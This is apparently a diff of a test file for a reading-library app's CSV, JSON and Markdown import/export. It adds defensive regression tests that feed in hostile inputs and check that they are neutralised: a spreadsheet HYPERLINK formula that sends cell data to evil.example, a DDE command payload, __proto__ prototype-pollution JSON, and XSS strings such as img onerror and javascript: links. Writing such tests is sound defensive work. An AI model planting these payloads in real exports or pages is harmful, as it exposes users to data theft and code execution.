@@ -1,7 +1,8 @@
 import { strToU8, unzipSync, zipSync } from 'fflate';
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { detectFormat, exportLibraryJson, exportPocketCsv, parseImport } from '@/utils/library/formats';
-import { exportMarkdownZip } from '@/utils/library/formats/markdown';
+import { exportMarkdownZip, itemToMarkdown } from '@/utils/library/formats/markdown';
 import { fixture, fixtureBytes, makeItem } from './helpers';
 
 const NOW = 1_800_000_000_000;
@@ -97,6 +98,33 @@ describe('Pocket CSV', () => {
   });
 });
 
+describe('CSV export and spreadsheet formulas (issue 15, finding 4)', () => {
+  const hostile = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    '@SUM(1+1)*cmd|/C calc!A0',
+    '+1+1',
+    '-2+3',
+    '\tindented',
+    '\rcarriage',
+  ];
+
+  it('starts no cell with =, +, -, @, tab or CR, and reads its own escaping back', () => {
+    const items = hostile.map((title, n) =>
+      makeItem({ url: `https://example.com/${n}`, title, tags: [title.trim(), 'plain'] }),
+    );
+    const csv = exportPocketCsv(items);
+    const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(cells).toContain(`'${hostile[0]}`);
+    const result = parseImport('export.csv', csv, { now: NOW });
+    if (!result.ok) throw new Error(result.error);
+    expect(result.items.map((item) => item.title)).toEqual(hostile.map((title) => title.trim() || title));
+    expect(result.items.map((item) => item.tags[0])).toEqual(
+      hostile.map((title) => title.trim().split('|')[0]),
+    );
+  });
+});
+
 describe('Instapaper CSV', () => {
   it('maps folders, selections and JSON tags', () => {
     const result = parseImport('instapaper.csv', fixture('instapaper.csv'), { now: NOW });
@@ -124,8 +152,8 @@ describe('JSON', () => {
         url: 'https://example.com/a',
         contentHtml: '<p>x</p>',
         text: 'x',
-        quotes: [{ text: 'q', createdAt: 1 }],
-        cards: [{ quote: 'q', theme: 't', size: 's', createdAt: 2 }],
+        quotes: [{ text: 'q', createdAt: 1_700_000_000_001 }],
+        cards: [{ quote: 'q', theme: 't', size: 's', createdAt: 1_700_000_000_002 }],
         fetchState: 'ok',
         favourite: true,
         progress: 0.3,
@@ -138,7 +166,34 @@ describe('JSON', () => {
         lang: 'ar',
       }),
     ];
-    expect(parseImport('lib.json', exportLibraryJson(items, NOW))).toEqual({ ok: true, items });
+    expect(parseImport('lib.json', exportLibraryJson(items, NOW), { now: NOW })).toEqual({
+      ok: true,
+      items,
+      repairedDates: 0,
+    });
+  });
+
+  it('files each item under its own URL: an id naming another page is not believed', () => {
+    const forged = makeItem({ url: 'https://attacker.example/x', id: 'https://news.example/a' });
+    const json = exportLibraryJson([forged], NOW);
+    const result = parseImport('lib.json', json, { now: NOW });
+    expect(result.ok && result.items.map((item) => [item.id, item.url])).toEqual([
+      ['https://attacker.example/x', 'https://attacker.example/x'],
+    ]);
+  });
+
+  it('drops fields the library does not know', () => {
+    const item = makeItem({ url: 'https://example.com/a' });
+    const json = JSON.stringify({
+      format: 'pullquote-library',
+      version: 1,
+      exportedAt: NOW,
+      items: [{ ...item, evil: '<script>', onclick: 'x', constructor: { prototype: 1 } }],
+    }).replace('"id":', '"__proto__":{"polluted":true},"id":');
+    const result = parseImport('lib.json', json, { now: NOW });
+    expect(result.ok && result.items).toEqual([item]);
+    expect(result.ok && Object.keys(result.items[0] ?? {}).sort()).toEqual(Object.keys(item).sort());
+    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
   });
 
   it('names the item and field at fault', () => {
@@ -243,5 +298,24 @@ describe('Markdown zip', () => {
     expect(first).toContain('tags: ["t"]');
     expect(first).toContain('## Head\n\nPara [link](<https://l.example/>)\n\n- one\n\n> quoted');
     expect(new TextDecoder().decode(files['same TITLE x (2).md'])).toContain('Just text.');
+  });
+});
+
+describe('Markdown export of kept quotes (issue 15, finding 11)', () => {
+  it('escapes a quote’s markup instead of writing it as raw HTML', () => {
+    const item = makeItem({
+      url: 'https://example.com/a',
+      quotes: [
+        {
+          text: '<img src=x onerror="alert(1)"> said **loudly**\n<script>x()</script> [go](javascript:alert(1))',
+          createdAt: 1_700_000_000_000,
+        },
+      ],
+    });
+    const markdown = itemToMarkdown(item);
+    const quotes = markdown.slice(markdown.indexOf('## Quotes'));
+    expect(quotes).not.toMatch(/(^|[^\\])<(img|script)/);
+    expect(quotes).toContain('> \\<img src=x onerror="alert(1)"\\> said \\*\\*loudly\\*\\*');
+    expect(quotes).toContain('> \\<script\\>x()\\</script\\> \\[go\\](javascript:alert(1))');
   });
 });
